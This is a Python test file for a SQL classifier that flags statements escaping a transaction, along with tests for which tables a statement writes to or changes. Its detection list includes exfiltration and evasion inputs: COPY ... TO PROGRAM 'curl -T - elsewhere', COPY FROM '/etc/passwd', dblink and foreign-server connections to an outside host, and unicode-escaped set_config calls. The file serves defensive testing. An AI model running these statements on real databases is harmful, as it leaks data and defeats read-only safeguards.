"""Ways around a session are found however they are spelled, and nothing else is taken for one."""

from __future__ import annotations

import sqlite3
from contextlib import closing

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from residency.storage.statements import ANY, changed, goes_around, writes, written

AROUND = [
    "COMMIT",
    " /* so */ -- and so\n end transaction",
    "commit prepared 'x'",
    "prepare transaction 'x'",
    "rollback",
    "rollback work",
    "abort",
    "begin immediate",
    "start transaction read write",
    "SELECT 1; COMMIT",
    "SELECT ';' ; COMMIT",
    "SELECT $$;$$; COMMIT",
    "SELECT $a$ $$ $a$; COMMIT",
    r"SELECT E'\';'; COMMIT",
    r"SELECT '\'; COMMIT",
    "SELECT 1;/* /* */ */ COMMIT",
    "/* /* */ COMMIT",
    "--\rCOMMIT",
    "--\r/*\nCOMMIT",
    "\ufeffCOMMIT",
    ";;COMMIT",
    "ATTACH DATABASE 'sg.db' AS elsewhere",
    "VACUUM INTO 'sg.db'",
    "PRAGMA query_only = OFF",
    "PRAGMA main . query_only(0)",
    "SET TRANSACTION READ WRITE",
    "SET/**/TRANSACTION READ WRITE",
    "SET LOCAL transaction_read_only = off",
    'SET "transaction_read_only" = off',
    r'SET U&"transaction\005fread_only" TO off',
    "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
    "SET session transaction read write",
    "RESET transaction_read_only",
    "RESET ALL",
    "set standard_conforming_strings = off",
    "COPY person TO PROGRAM 'curl -T - elsewhere'",
    "COPY person FROM '/etc/passwd'",
    "COPY (SELECT 1 AS stdout) TO PROGRAM 'curl -T - elsewhere'",
    """COPY person ("stdout") TO '/mnt/elsewhere'""",
    "COPY person (stdin) FROM PROGRAM 'curl elsewhere' WHERE id IN (SELECT stdin)",
    "COPY (SELECT a FROM stdin) TO '/mnt/elsewhere'",
    "ALTER SYSTEM SET fsync = off",
    "ALTER SERVER there OPTIONS (SET host 'elsewhere')",
    "ALTER SUBSCRIPTION s CONNECTION 'host=elsewhere'",
    "ALTER USER MAPPING FOR app SERVER there OPTIONS (SET user 'x')",
    "CREATE USER MAPPING FOR app SERVER there",
    "CREATE PUBLICATION p FOR ALL TABLES",
    "CREATE EXTENSION dblink",
    "SELECT set_config('synchronous_commit', 'off', false)",
    "select pg_catalog . set_config ( 'TRANSACTION_READ_ONLY' , 'off', false)",
    "/* */ SELECT set_config('synchronous_commit', 'off', false)",
    "SELECT 1; SELECT set_config('synchronous_commit', 'off', false)",
    """SELECT "set_config"/* */(E'synchronous_commit', 'off', false)""",
    "SELECT set_config($$synchronous_commit$$, 'off', false)",
    "DO $$ BEGIN PERFORM set_config('synchronous_commit', 'off', false); END $$",
    r"""SELECT U&"set\005fconfig"('synchronous_commit', 'off', false)""",
    "SELECT * FROM dblink('host=elsewhere', 'INSERT INTO t VALUES (1)') AS t (a text)",
    "SELECT public . dblink_exec ('host=elsewhere', 'COMMIT')",
    """SELECT "dblink_connect" ('host=elsewhere')""",
    "DO $$ BEGIN PERFORM dblink_exec('host=elsewhere', 'x'); END $$",
    "WITH a AS (SELECT lo_export(1, '/mnt/elsewhere')) SELECT 1",
    "CREATE SERVER elsewhere FOREIGN DATA WRAPPER postgres_fdw",
    "CREATE SUBSCRIPTION s CONNECTION 'host=elsewhere' PUBLICATION p",
    "LOAD 'library'",
]
WITHIN = [
    "SELECT 1",
    "select 'COMMIT; END'",
    "INSERT INTO t VALUES ('1; COMMIT')",
    'SELECT "a;COMMIT" FROM t;',
    "SELECT 1 /* ; COMMIT */",
    "SELECT 1 -- ; COMMIT",
    "SELECT $body$ ; COMMIT $body$;",
    "DO $$ BEGIN PERFORM 1; COMMIT; END $$",
    "SELECT $1; SELECT $2",
    "SAVEPOINT sa_savepoint_1",
    "ROLLBACK TO SAVEPOINT sa_savepoint_1",
    "rollback work to a",
    "RELEASE SAVEPOINT sa_savepoint_1",
    "SET LOCAL statement_timeout = 100",
    "SET CONSTRAINTS ALL DEFERRED",
    "PRAGMA table_info(person)",
    "COPY person TO STDOUT",
    "COPY (SELECT id FROM person) TO STDOUT WITH (FORMAT csv)",
    "COPY person (id, name) FROM STDIN BINARY",
    "SELECT set_config('app.tenant', '42', true)",
    "SELECT dblinked, set_configs, app_dblink FROM t",
    "DO $$ BEGIN PERFORM set_config('app.tenant', '42', true); END $$",
    "ALTER TABLE person ADD COLUMN age integer",
    "CREATE TABLE t (id text)",
    "CREATE TABLE commit_log (x TEXT)",
    "WITH q AS (SELECT 1) SELECT * FROM q",
    "EXPLAIN SELECT 1",
    "",
]


@pytest.mark.parametrize("text", AROUND)
def test_a_way_around_is_found_however_it_is_spelled(text: str) -> None:
    assert goes_around(text)


@pytest.mark.parametrize("text", WITHIN)
def test_what_stays_within_the_transaction_is_let_through(text: str) -> None:
    assert not goes_around(text)


PIECES = st.lists(
    st.sampled_from(["COMMIT", "--", "/*", "*/", "\n", "\r", "'", '"', "[", "]", "`", ";", " ", "SELECT 1", "x", "\\"]),
    max_size=8,
)


@given(PIECES)
def test_whatever_ends_a_transaction_of_sqlite_was_found_before(pieces: list[str]) -> None:
    text = "".join(pieces)
    connection = sqlite3.connect(":memory:", isolation_level=None)
    try:
        connection.execute("BEGIN")
        try:
            connection.execute(text)
        except (sqlite3.Error, sqlite3.Warning):
            return
        assert connection.in_transaction or goes_around(text)
    finally:
        connection.close()


@given(PIECES)
def test_any_text_is_read_to_its_end(pieces: list[str]) -> None:
    assert goes_around("".join(pieces)) in (True, False)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("SELECT * FROM person FOR UPDATE", {}),
        ("SELECT * FROM person FOR NO KEY UPDATE OF person", {}),
        ("DELETE FROM person", {}),
        ("SELECT replace(name, 'INSERT INTO person', 'x') FROM person", {}),
        ("CREATE TABLE note (who text REFERENCES person ON UPDATE CASCADE)", {}),
        ("COPY person TO STDOUT", {}),
        ("INSERT INTO person VALUES (1)", {"PERSON": None}),
        ("insert into public.Person select 1", {"PERSON": None}),
        ("INSERT INTO person (SELECT 1)", {"PERSON": None}),
        ("INSERT INTO person (TABLE other)", {"PERSON": None}),
        ("INSERT INTO person ((SELECT 1))", {"PERSON": None}),
        ('INSERT INTO person ("select", U&"\\0061")  VALUES (1, 2)', {"PERSON": {"SELECT", ANY}}),
        ('UPDATE person AS "where" SET a = 1 WHERE b = 2', {"PERSON": {"WHERE", "SET", "A"}}),
        ("UPDATE ONLY (person) SET a = 1", {"PERSON": {"SET", "A"}}),
        ("CREATE TABLE t AS WITH new AS (INSERT INTO person TABLE other RETURNING 1) TABLE new", {"PERSON": None}),
        ("CREATE FUNCTION f() RETURNS void BEGIN ATOMIC INSERT INTO person VALUES (1); END", {}),
        ("EXECUTE prepared", {ANY: None}),
        ("DO $$ BEGIN PERFORM 1; END $$", {ANY: None}),
        ('INSERT INTO "public"."person" AS p (id) VALUES (1)', {"PERSON": {"ID", "VALUES", "1"}}),
        ("REPLACE INTO person (id) VALUES (1)", {"PERSON": {"ID", "VALUES", "1"}}),
        ("INSERT OR REPLACE INTO [person] (id) VALUES (1)", {"PERSON": {"ID", "VALUES", "1"}, "[": None}),
        ("INSERT INTO 'person' (id) VALUES (1)", {ANY: {"ID", "VALUES", "1"}}),
        ('INSERT INTO U&"p\\0065rson" (id) VALUES (1)', {ANY: {"ID", "VALUES", "1"}, "U": None}),
        ("UPDATE ONLY person SET a = (SELECT 1 WHERE true) WHERE b = 1", {"PERSON": {"SET", "A", "=", "SELECT", "1"}}),
        ("/* x */ WITH new AS (UPDATE person SET a = 1 RETURNING b) SELECT * FROM new", {"PERSON": {"SET", "A", "B"}}),
        ("SELECT 1; UPDATE person SET a = 1", {"PERSON": {"SET", "A", "=", "1"}}),
        ("EXPLAIN ANALYZE INSERT INTO person VALUES (1)", {"PERSON": None}),
        ("MERGE INTO person USING other ON true WHEN MATCHED THEN UPDATE SET a = 1", {"PERSON": None}),
        ("COPY person (id) FROM STDIN", {"PERSON": {"ID", "FROM", "STDIN"}}),
        ("COPY person FROM STDIN", {"PERSON": None}),
    ],
)
def test_the_tables_that_a_text_writes_to_are_found(text: str, expected: dict[str, set[str] | None]) -> None:
    found = written(text)
    assert found.keys() >= expected.keys()
    for table, words in expected.items():
        known = found[table]
        assert (known is None) == (words is None)
        assert words is None or (known is not None and known >= words)
    if not expected:
        assert found == {}
    assert writes(text) > 0 or not expected


WRITES = st.lists(
    st.sampled_from(
        [
            "INSERT INTO",
            "REPLACE INTO",
            "UPDATE",
            "OR IGNORE",
            "OR REPLACE INTO",
            "person",
            '"person"',
            "[person]",
            "main.",
            "`person`",
            "SET who = 1",
            "SET name = who",
            "(who)",
            "(name)",
            "VALUES (1)",
            "SELECT 1",
            "WHERE who = 1",
            "AS p",
            "ON CONFLICT DO NOTHING",
            "ON CONFLICT (id) DO UPDATE SET who = 2",
            "WITH x AS (SELECT 1)",
            "--\n",
            "/* ' */",
            "RETURNING id",
            "FROM person",
            "DEFAULT VALUES",
            ";",
        ]
    ),
    max_size=7,
)


@given(WRITES)
@settings(max_examples=500)
def test_whatever_sqlite_writes_to_a_table_was_found_before(pieces: list[str]) -> None:
    text = " ".join(pieces)
    with closing(sqlite3.connect(":memory:")) as connection:
        connection.execute("CREATE TABLE person (id INTEGER PRIMARY KEY, who, name)")
        told: set[tuple[int, str | None, str | None]] = set()

        def authorize(action: int, table: str | None, column: str | None, *_: object) -> int:
            told.add((action, table, column))
            return sqlite3.SQLITE_OK

        connection.set_authorizer(authorize)
        try:
            connection.execute(f"EXPLAIN {text}")
        except (sqlite3.Error, sqlite3.Warning):
            return
        columns = written(text).get("PERSON", frozenset())
        if (sqlite3.SQLITE_INSERT, "person", None) in told and "DEFAULT VALUES" not in text:
            assert columns is None or columns
        if (sqlite3.SQLITE_UPDATE, "person", "who") in told:
            assert columns is None or "WHO" in columns
        if columns == frozenset():
            assert not [action for action, *_ in told if action in (sqlite3.SQLITE_INSERT, sqlite3.SQLITE_UPDATE)]


@pytest.mark.parametrize(
    ("text", "tables"),
    [
        ("UPDATE person SET a = 1", {"PERSON"}),
        ("update only public.person SET a = 1", {"PERSON"}),
        ("UPDATE OR IGNORE person SET a = 1", {"PERSON"}),
        ('DELETE FROM "Person" WHERE id = 1', {"PERSON"}),
        ("WITH gone AS (DELETE FROM person RETURNING id) INSERT INTO other SELECT id FROM gone", {"PERSON"}),
        ("INSERT INTO person VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1", {"PERSON"}),
        ("INSERT OR REPLACE INTO person VALUES (1)", {"PERSON"}),
        ("REPLACE INTO 'person' VALUES (1)", {ANY}),
        ("MERGE INTO person USING other ON true WHEN MATCHED THEN DELETE", {"PERSON"}),
        ("TRUNCATE other, person", {"TRUNCATE", "OTHER", ",", "PERSON"}),
        ("INSERT INTO person VALUES (1) ON CONFLICT DO NOTHING", set()),
        ("INSERT INTO other SELECT id FROM person", set()),
        ("SELECT id FROM person FOR NO KEY UPDATE", set()),
        ("DELETE FROM ONLY (person)", {"PERSON"}),
        ('INSERT INTO person AS "into" VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1', {"PERSON"}),
        ('WITH RECURSIVE x AS (SELECT 1) SEARCH DEPTH FIRST BY a SET "for" UPDATE person SET a = 1', {"PERSON"}),
        ("CREATE TABLE t AS WITH gone AS (DELETE FROM person RETURNING id) TABLE gone", {"PERSON"}),
        ("DROP TABLE other.person", {"DROP", "TABLE", "OTHER", ".", "PERSON"}),
        ("ALTER TABLE person DROP a", {"ALTER", "TABLE", "PERSON", "DROP", "A"}),
        ("TRUNCATE other CASCADE", {"TRUNCATE", "OTHER", "CASCADE", ANY}),
        ("DROP SCHEMA other", {"DROP", "SCHEMA", "OTHER", ANY}),
        ("EXECUTE prepared", {ANY}),
        ("/* */ DO 'BEGIN PERFORM 1; END'", {ANY}),
        ("GRANT EXECUTE ON FUNCTION f() TO public", set()),
        ("CREATE TRIGGER t AFTER DELETE ON other EXECUTE FUNCTION f()", set()),
        ("SELECT 'DELETE FROM person'", set()),
        ("CREATE TABLE a (b int REFERENCES person ON DELETE CASCADE ON UPDATE CASCADE)", set()),
    ],
)
def test_tables_whose_rows_a_text_changes(text: str, tables: set[str]) -> None:
    assert changed(text) == tables
